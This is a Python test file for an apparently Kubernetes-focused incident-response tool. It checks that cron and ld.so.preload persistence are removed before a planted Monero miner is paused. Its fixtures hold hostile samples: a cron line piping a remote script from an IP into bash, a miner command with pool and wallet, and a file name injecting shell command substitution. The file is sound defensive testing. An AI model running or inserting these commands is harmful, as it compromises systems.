"""What to do on a node: whatever starts the intruder's programs again goes before the programs are stopped."""

from __future__ import annotations

from pathlib import Path
from shlex import split

from kubewitness.incident.investigate import Options, investigate
from kubewitness.model.incident import Incident
from kubewitness.rules.loader import RuleSet

WALLET = "46EPFzvnX5GH61ejkPpNcRNm8kVjs8oHS9VwCkKRCrJX27XEW2y1NPLfSa54DGHxqnKfzDUVW1jzBfekk3hrCV"
HEAD = "USER PID PPID STARTED COMMAND\n"
MINER = f"root 4411 1 Sun Nov 22 03:59:54 2026 ./.system -o pool.supportxmr.com:3333 -u {WALLET}"
CRON = "MAILTO=root\n* * * * * root curl -s http://203.0.113.9/k.sh | bash\n"


def incident(folder: Path, rules: RuleSet, files: dict[str, str]) -> Incident:
    """The one incident of a machine that holds these files."""
    for path, text in files.items():
        (folder / "nodes/n" / path).parent.mkdir(parents=True, exist_ok=True)
        (folder / "nodes/n" / path).write_text(text)
    (found,) = investigate([str(folder)], rules=rules, options=Options()).incidents
    return found


def test_cron_and_preloaded_libraries_are_taken_away_before_the_miner_is_stopped(
    tmp_path: Path, rules: RuleSet
) -> None:
    found = incident(
        tmp_path, rules, {"ps.txt": HEAD + MINER, "etc/cron.d/a b": CRON, "etc/ld.so.preload": "/tmp/.x/lib.so\n"}
    )
    stops = [action for action in found.actions if action.phase == "stop"]
    assert len(stops) == 2
    assert stops[0].command.splitlines()[1:] == [
        "cp -a --parents '/etc/cron.d/a b' .",
        "cp -a --parents /etc/ld.so.preload .",
        "# then take out of '/etc/cron.d/a b': line 2",
        "# then take out of /etc/ld.so.preload: line 1",
    ]
    assert stops[1].command.startswith("kill -STOP 4411")


def test_where_nothing_starts_it_again_nothing_is_taken_away(tmp_path: Path, rules: RuleSet) -> None:
    harmless = "17 * * * * root cd / && run-parts --report /etc/cron.hourly\n"
    found = incident(tmp_path, rules, {"ps.txt": HEAD + MINER, "etc/crontab": harmless})
    assert [action.command.split()[0] for action in found.actions if action.phase == "stop"] == ["kill"]


def test_names_of_files_break_no_command(tmp_path: Path, rules: RuleSet) -> None:
    found = incident(tmp_path, rules, {"ps.txt": HEAD + MINER, "etc/cron.d/$(id)`id`;id": CRON})
    (copy,) = [
        line for one in found.actions for line in one.command.splitlines() if "cron.d" in line and line[0] != "#"
    ]
    assert split(copy)[-2:] == ["/etc/cron.d/$(id)`id`;id", "."]


def test_the_snapshot_begins_with_our_own_collector(tmp_path: Path, rules: RuleSet) -> None:
    found = incident(tmp_path, rules, {"ps.txt": HEAD + MINER})
    assert "kubewitness collect --output ." in found.actions[0].command.splitlines()


def test_a_process_that_two_lists_show_under_two_commands_is_named_once(tmp_path: Path, rules: RuleSet) -> None:
    other = MINER.partition(" -u ")[0] + " --threads 4"
    found = incident(tmp_path, rules, {"ps.txt": HEAD + MINER, "ps2.txt": HEAD + other})
    assert any("(pid 4411)" in one.en for one in found.story)
